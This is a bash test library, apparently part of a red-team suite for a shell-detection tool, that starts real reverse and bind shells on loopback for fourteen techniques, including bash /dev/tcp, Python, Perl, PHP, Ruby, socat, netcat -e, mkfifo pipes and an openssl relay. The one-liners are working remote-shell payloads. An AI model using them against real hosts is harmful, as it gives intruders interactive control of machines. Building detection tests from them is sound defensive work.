# techniques.sh: launchers of REAL remote shells on loopback, one function per technique, for the
# red-team suite (tests/redteam/) and anyone who needs a live shell to detect (sourced; needs
# tests/lib.sh for wait_until, free_port, listening and SW_TMP/SW_BUILD).
#
# Each technique starts its own listener on 127.0.0.1 (never anything else), starts the shell,
# sends it `echo sw-pid=$$; id; exit`, waits (bounded) until the listener received `uid=`, lets the
# shell exit, then kills whatever is left of it. Usage:
#   sw_tech_run NAME        run one technique; 0 when the listener got the output of `id`
#   sw_tech_describe        one TAP comment line with the variables below
#   sw_tech_missing NAME    prints the first program NAME needs that is not installed (empty: none)
#   SW_TECHNIQUES           every NAME, in the issue's order
# After sw_tech_run, these describe the last run (they stay set for the caller):
#   SW_T_NAME         the technique
#   SW_T_KIND         stdio: the shell is exec'd with the socket on fd 0/1 (its exec shows it);
#                     lineage: a relay, pty or socketpair sits between; the socket is held by the
#                     shell's parent, grandparent or a sibling in the same pipeline
#   SW_T_ROOT_PID     the process the launcher started (the shell is it or a descendant)
#   SW_T_SHELL_PID    the interactive shell's own pid, as it reported with `echo $$`
#   SW_T_PORT         the listening port on 127.0.0.1 (the attacker's for reverse shells, the
#                     shell's for the bind shell)
#   SW_T_PEER         the remote end as the shell sees it, ADDR:PORT
#   SW_T_LISTENER_PID the attacker's process (listener, or the client of a bind shell)
#   SW_T_US           microseconds from start to cleaned up
#   SW_T_DIR          scratch directory: listener.out holds what the attacker received
# Knobs: SW_TECH_TIMEOUT (s, default 10) bounds every wait; SW_PY the python interpreter
# (default /usr/bin/python3 when present: pyenv shims add execs of their own); SW_C_DUP3 the C shell.

SW_TECHNIQUES=(bash_tcp sh_fd196 python_dup2 python_pty perl_socket php_fsockopen ruby_tcpsocket
	socat_exec ncat_e nc_traditional_e mkfifo_nc openssl_relay python_bind c_dup3_fcntl)
: "${SW_TECH_TIMEOUT:=10}"
if [ -z "${SW_PY:-}" ]; then
	if [ -x /usr/bin/python3 ]; then SW_PY=/usr/bin/python3; else SW_PY=$(command -v python3); fi
fi
: "${SW_C_DUP3:=$SW_BUILD/tests/c_dup3_fcntl}"
SW_SHELLS_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
source "$SW_SHELLS_DIR/procs.sh"
SW_TECH_SEND='echo sw-pid=$$; id; exit'

# ---- plumbing ---------------------------------------------------------------------------------

sw_tech_missing() {
	local need p
	case $1 in
	bash_tcp | sh_fd196) need="bash sh" ;;
	python_dup2 | python_pty | python_bind) need="$SW_PY" ;;
	perl_socket) need=perl ;;
	php_fsockopen) need=php ;;
	ruby_tcpsocket) need=ruby ;;
	socat_exec) need=socat ;;
	ncat_e) need=ncat ;;
	nc_traditional_e | mkfifo_nc) need="nc.traditional mkfifo" ;;
	openssl_relay) need="openssl mkfifo" ;;
	c_dup3_fcntl) need=$SW_C_DUP3 ;;
	*) echo "unknown-technique"; return 0 ;;
	esac
	for p in $need "$SW_PY" ss; do
		command -v "$p" >/dev/null 2>&1 || { echo "$p"; return 0; }
	done
}

sw_tech_describe() {
	printf '# %s (%s): shell=%s root=%s peer=%s port=%s listener=%s %d.%03d s\n' \
		"$SW_T_NAME" "$SW_T_KIND" "${SW_T_SHELL_PID:-?}" "$SW_T_ROOT_PID" "${SW_T_PEER:-?}" \
		"${SW_T_PORT:-?}" "${SW_T_LISTENER_PID:-?}" $((SW_T_US / 1000000)) \
		$((SW_T_US % 1000000 / 1000))
}

sw_tech_run() {
	local name=$1 t0 rc
	SW_T_NAME=$name SW_T_KIND=stdio SW_T_ROOT_PID= SW_T_SHELL_PID= SW_T_PORT= SW_T_PEER=
	SW_T_LISTENER_PID= SW_T_US=0 SW_T_FIFO_FD=
	SW_T_DIR=$SW_TMP/tech-$name.$RANDOM
	mkdir -p "$SW_T_DIR" && : >"$SW_T_DIR/listener.out" || return 1
	t0=${EPOCHREALTIME/./}
	declare -F "sw_tech_$name" >/dev/null || { echo "# unknown technique $name" >&2; return 1; }
	"sw_tech_$name"
	rc=$?
	SW_T_US=$((${EPOCHREALTIME/./} - t0))
	return $rc
}

# _sw_listen: the attacker's listener on a port the kernel picks; sets SW_T_PORT and SW_T_PEER.
_sw_listen() {
	local pf=$SW_T_DIR/port
	"$SW_PY" "$SW_SHELLS_DIR/listener.py" listen --port-file "$pf" --out "$SW_T_DIR/listener.out" \
		--send "$SW_TECH_SEND" --timeout "$SW_TECH_TIMEOUT" 2>"$SW_T_DIR/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" test -s "$pf" || return 1
	SW_T_PORT=$(<"$pf")
	SW_T_PEER=127.0.0.1:$SW_T_PORT
}

# _sw_spawn CMD...: start the shell in a session of its own (so cleanup can reach its children).
_sw_spawn() {
	setsid "$@" </dev/null >"$SW_T_DIR/shell.log" 2>&1 &
	SW_T_ROOT_PID=$!
}

# _sw_finish: wait for the output of `id`, give the shell a moment to exit by itself, clean up.
_sw_finish() {
	local rc=0 out=$SW_T_DIR/listener.out pids
	wait_until "$SW_TECH_TIMEOUT" grep -aq 'uid=' "$out" || rc=1
	SW_T_SHELL_PID=$(grep -ao 'sw-pid=[0-9][0-9]*' "$out" 2>/dev/null | head -n 1 | cut -d= -f2)
	[ -n "$SW_T_ROOT_PID" ] && { wait_until 3 sw_gone "$SW_T_ROOT_PID" || true; }
	if [ -n "$SW_T_ROOT_PID" ]; then
		pids="$(sw_tree "$SW_T_ROOT_PID") $SW_T_ROOT_PID"
		kill -KILL -- -"$SW_T_ROOT_PID" 2>/dev/null
		# shellcheck disable=SC2086
		kill -KILL $pids 2>/dev/null
	fi
	[ -n "$SW_T_LISTENER_PID" ] && kill -KILL "$SW_T_LISTENER_PID" 2>/dev/null
	[ -n "$SW_T_FIFO_FD" ] && eval "exec $SW_T_FIFO_FD>&-"
	# shellcheck disable=SC2086
	{ wait $SW_T_ROOT_PID $SW_T_LISTENER_PID; } 2>/dev/null
	return $rc
}

# _sw_reverse CMD...: the common case: listener, then the shell calling back to it.
# CMD may contain @PORT@, replaced by the listener's port.
_sw_reverse() {
	local a args=()
	_sw_listen || { _sw_finish; return 1; }
	for a in "$@"; do args+=("${a//@PORT@/$SW_T_PORT}"); done
	_sw_spawn "${args[@]}"
	_sw_finish
}

# ---- techniques -------------------------------------------------------------------------------

sw_tech_bash_tcp() {
	_sw_reverse bash -c 'bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'
}

sw_tech_sh_fd196() {
	_sw_reverse bash -c 'exec 196<>/dev/tcp/127.0.0.1/@PORT@; sh <&196 >&196 2>&196'
}

sw_tech_python_dup2() {
	_sw_reverse "$SW_PY" -c 'import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",@PORT@))
os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])'
}

sw_tech_python_pty() {
	SW_T_KIND=lineage
	_sw_reverse "$SW_PY" -c 'import socket,os,pty
s=socket.socket();s.connect(("127.0.0.1",@PORT@))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/sh")'
}

sw_tech_perl_socket() {
	_sw_reverse perl -e 'use Socket;$i="127.0.0.1";$p=@PORT@;
socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");
open(STDERR,">&S");exec("/bin/sh -i");};'
}

sw_tech_php_fsockopen() {
	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'
}

sw_tech_ruby_tcpsocket() {
	_sw_reverse ruby -rsocket -e 'c=TCPSocket.new("127.0.0.1",@PORT@)
$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec "/bin/sh -i"'
}

sw_tech_socat_exec() {
	SW_T_KIND=lineage
	_sw_reverse socat tcp:127.0.0.1:@PORT@ exec:/bin/sh,pty,stderr,setsid,sigint,sane
}

# Debian's ncat -e relays through pipes: the shell never gets the socket itself.
sw_tech_ncat_e() {
	SW_T_KIND=lineage
	_sw_reverse ncat 127.0.0.1 @PORT@ -e /bin/sh
}

sw_tech_nc_traditional_e() {
	_sw_reverse nc.traditional 127.0.0.1 @PORT@ -e /bin/sh
}

sw_tech_mkfifo_nc() {
	SW_T_KIND=lineage
	local f=$SW_T_DIR/f
	_sw_reverse bash -c "rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc.traditional 127.0.0.1 @PORT@ >$f"
}

sw_tech_c_dup3_fcntl() {
	_sw_reverse "$SW_C_DUP3" @PORT@
}

# The bind shell listens; the attacker (listener.py connect) calls in.
sw_tech_python_bind() {
	SW_T_KIND=stdio
	SW_T_PORT=$(free_port) || return 1
	_sw_spawn "$SW_PY" -c 'import socket,os
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(("127.0.0.1",'"$SW_T_PORT"'));s.listen(1);c,a=s.accept();s.close()
[os.dup2(c.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'
	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
	"$SW_PY" "$SW_SHELLS_DIR/listener.py" connect --port "$SW_T_PORT" \
		--out "$SW_T_DIR/listener.out" --send "$SW_TECH_SEND" --timeout "$SW_TECH_TIMEOUT" \
		2>"$SW_T_DIR/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" test -s "$SW_T_DIR/listener.out.local" &&
		SW_T_PEER=$(<"$SW_T_DIR/listener.out.local")
	_sw_finish
}

# openssl relay: `openssl s_server` with a throwaway self-signed cert is the attacker; the victim
# pipes a shell through `openssl s_client` and a fifo. s_server reads the command from a fifo we
# hold open, and writes what it receives to listener.out.
sw_tech_openssl_relay() {
	SW_T_KIND=lineage
	local d=$SW_T_DIR fd
	timeout "$SW_TECH_TIMEOUT" openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
		-nodes -keyout "$d/key.pem" -out "$d/cert.pem" -days 1 -subj /CN=localhost \
		>/dev/null 2>&1 || return 1
	SW_T_PORT=$(free_port) || return 1
	SW_T_PEER=127.0.0.1:$SW_T_PORT
	mkfifo "$d/cmd"
	exec {fd}<>"$d/cmd"
	SW_T_FIFO_FD=$fd
	openssl s_server -quiet -naccept 1 -accept "127.0.0.1:$SW_T_PORT" -key "$d/key.pem" \
		-cert "$d/cert.pem" <"$d/cmd" >"$d/listener.out" 2>"$d/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
	_sw_spawn bash -c "rm -f $d/f; mkfifo $d/f; /bin/sh -i <$d/f 2>&1 |
		openssl s_client -quiet -connect 127.0.0.1:$SW_T_PORT >$d/f 2>/dev/null"
	printf '%s\n' "$SW_TECH_SEND" >&"$fd"
	_sw_finish
}
